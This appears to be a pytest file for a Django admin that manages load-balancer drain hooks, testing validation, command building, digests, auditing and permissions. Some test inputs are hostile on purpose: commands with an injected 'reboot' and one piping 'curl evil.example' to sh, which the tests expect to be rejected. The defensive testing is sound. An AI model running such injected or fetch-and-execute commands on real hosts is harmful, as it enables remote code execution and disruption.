"""Drain hooks an administrator keeps: what each kind needs, what a request binds to (its digest),
the command lines it becomes, and the admin that manages them, audited."""

from __future__ import annotations

import pytest
from django.core.exceptions import ValidationError
from django.test import Client

from controlplane.audit.models import AuditEvent
from deployments.choices import DrainHookKind
from deployments.models import DrainHook
from hosts import hook_commands
from hosts.commands import UnsafeCommand

pytestmark = pytest.mark.django_db
VALUES = hook_commands.hook_values(host="gpu-01", unit="vllm-kimi-k25.service", port=8000)


def command_hook(**fields: object) -> DrainHook:
    defaults = {
        "name": "lb",
        "kind": DrainHookKind.COMMAND,
        "drain_command": "/usr/local/bin/lb-drain out --backend {host}",
        "undrain_command": "/usr/local/bin/lb-drain in --backend {host}",
    }
    return DrainHook(**{**defaults, **fields})


def http_hook(**fields: object) -> DrainHook:
    defaults = {
        "name": "agent",
        "kind": DrainHookKind.HTTP,
        "drain_url": "http://127.0.0.1:9180/v1/backends/{host}/drain",
        "undrain_url": "http://127.0.0.1:9180/v1/backends/{host}/undrain",
    }
    return DrainHook(**{**defaults, **fields})


def test_a_command_hook_runs_its_commands_with_the_placeholders_filled_in() -> None:
    hook = command_hook()
    hook.full_clean()
    assert hook.argv("drain", VALUES) == ["/usr/local/bin/lb-drain", "out", "--backend", "gpu-01"]
    assert hook.argv("undrain", VALUES) == ["/usr/local/bin/lb-drain", "in", "--backend", "gpu-01"]


def test_an_http_hook_sends_its_calls_from_the_host_with_curl() -> None:
    hook = http_hook(undrain_method="PUT")
    hook.full_clean()
    drain = hook.argv("drain", VALUES)
    assert drain[:4] == ["curl", "-sS", "-X", "POST"]
    assert drain[-1] == "http://127.0.0.1:9180/v1/backends/gpu-01/drain"
    assert hook.argv("undrain", VALUES)[3] == "PUT"
    assert hook.shown("drain") == "POST http://127.0.0.1:9180/v1/backends/{host}/drain"


@pytest.mark.parametrize(
    ("hook", "field"),
    [
        (command_hook(undrain_command=""), "undrain_command"),
        (command_hook(drain_url="http://lb/drain"), "drain_url"),
        (http_hook(undrain_url=""), "undrain_url"),
        (http_hook(drain_command="/bin/true"), "drain_command"),
        (command_hook(drain_command="/usr/local/bin/lb-drain out; reboot"), "drain_command"),
        (command_hook(drain_command="lb-drain out"), "drain_command"),
        (http_hook(drain_url="http://user:pw@lb/drain"), "drain_url"),
        (command_hook(timeout_seconds=0), "timeout_seconds"),
        (command_hook(timeout_seconds=301), "timeout_seconds"),
        (command_hook(name="two words"), "name"),
    ],
)
def test_what_a_hook_of_each_kind_may_not_be(hook: DrainHook, field: str) -> None:
    with pytest.raises(ValidationError) as caught:
        hook.full_clean()
    assert field in caught.value.message_dict


def test_a_row_that_bypassed_validation_never_becomes_a_command() -> None:
    hook = command_hook(drain_command="/usr/local/bin/lb-drain out;reboot")
    with pytest.raises(UnsafeCommand):
        hook.argv("drain", VALUES)
    with pytest.raises(UnsafeCommand):
        command_hook().argv("reboot", VALUES)
    with pytest.raises(UnsafeCommand):
        command_hook(kind="shell").argv("drain", VALUES)


def test_the_digest_changes_with_what_it_runs_and_only_that() -> None:
    hook = command_hook()
    digest = hook.digest()
    hook.description = "the balancer in rack 4"
    hook.enabled = False
    assert hook.digest() == digest
    hook.timeout_seconds = 60
    assert hook.digest() != digest
    hook.timeout_seconds = 30
    hook.undrain_command = "/usr/local/bin/lb-drain in"
    assert hook.digest() != digest


def admin_client(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


ADD = "/admin/deployments/drainhook/add/"
FORM = {
    "name": "lb",
    "description": "rack 4 balancer",
    "kind": "command",
    "enabled": "on",
    "timeout_seconds": "30",
    "drain_command": "/usr/local/bin/lb-drain out --backend {host}",
    "undrain_command": "/usr/local/bin/lb-drain in --backend {host}",
    "drain_method": "POST",
    "drain_url": "",
    "undrain_method": "POST",
    "undrain_url": "",
}


def test_an_administrator_adds_a_hook_in_the_admin_and_it_is_audited(admin_user) -> None:
    response = admin_client(admin_user).post(ADD, FORM)
    assert response.status_code == 302, response.content[:2000]
    hook = DrainHook.objects.get(name="lb")
    event = AuditEvent.objects.get(action="drainhook.created")
    assert event.actor == admin_user.username
    assert event.data["after"]["drain_command"] == FORM["drain_command"]
    response = admin_client(admin_user).post(
        f"/admin/deployments/drainhook/{hook.pk}/change/", {**FORM, "timeout_seconds": "45"}
    )
    assert response.status_code == 302
    changed = AuditEvent.objects.get(action="drainhook.changed")
    assert changed.data["fields"] == ["timeout_seconds"]  # updated_at is noise, not a change
    admin_client(admin_user).post(
        f"/admin/deployments/drainhook/{hook.pk}/delete/", {"post": "yes"}
    )
    assert AuditEvent.objects.filter(action="drainhook.deleted").exists()


def test_the_admin_refuses_a_shell_in_a_hook_and_saves_nothing(admin_user) -> None:
    form = {**FORM, "drain_command": "/usr/local/bin/lb-drain out && curl evil.example | sh"}
    response = admin_client(admin_user).post(ADD, form)
    assert response.status_code == 200
    assert b"word 3 may hold letters" in response.content
    assert not DrainHook.objects.exists()
    assert not AuditEvent.objects.filter(action="drainhook.created").exists()


def test_operators_cannot_manage_hooks(operator) -> None:
    response = admin_client(operator).post(ADD, FORM)
    assert response.status_code == 302 and "/admin/login/" in response["Location"]
    assert not DrainHook.objects.exists()
